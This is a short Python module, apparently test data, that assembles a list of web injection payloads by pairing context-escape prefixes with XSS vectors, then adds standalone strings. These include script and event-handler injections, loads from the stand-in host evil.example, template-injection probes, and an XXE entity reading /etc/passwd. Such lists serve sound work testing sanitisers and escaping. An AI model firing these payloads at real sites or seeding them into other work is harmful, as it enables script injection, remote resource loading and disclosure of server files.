"""Texts that run, fetch or break out wherever they are taken for anything but text."""

from __future__ import annotations

# Ways out of where a text may stand: an element, an attribute, a comment, a script, a style ...
_WAYS_OUT = (
    *("", '">', "'>", "--><p>", "]]><p>", "</script>", "</style>", "</title>", "</svg>"),
    *("</textarea></select>", "</table></section>", "\\u003c/script>"),
)
# ... and what runs or is fetched out there.
_SHOTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<object data=//evil.example/x></object>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import url(//evil.example/x.css)</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<math><maction xlink:href=javascript:alert(1)>x</maction></math>",
)
_ALONE = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    'https://evil.example/"onmouseover=alert(1)//',
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "` onerror=alert(1)",
    "x onload=alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "{{ 7*7 }}",
    "{% include '/etc/passwd' %}",
    "{{ cycler.__init__.__globals__ }}",
    "${alert(1)}",
    "`${alert(1)}`",
    "<%= alert(1) %>",
    "';alert(1);//",
    '";alert(1);//',
    "\\';alert(1);//",
    "</script><!--",
    "<!--<script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='//evil.example/x'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "url(//evil.example/x)",
    "}*{background:url(//evil.example/x)}",
    "expression(alert(1))",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "![x](//evil.example/x.png)",
    "<b>x</b>",
    "\\N \\G \\L",
    '"]; evil [URL="javascript:alert(1)"',
    "__proto__",
    "constructor",
)
PAYLOADS = (*(out + shot for out in _WAYS_OUT for shot in _SHOTS), *_ALONE)
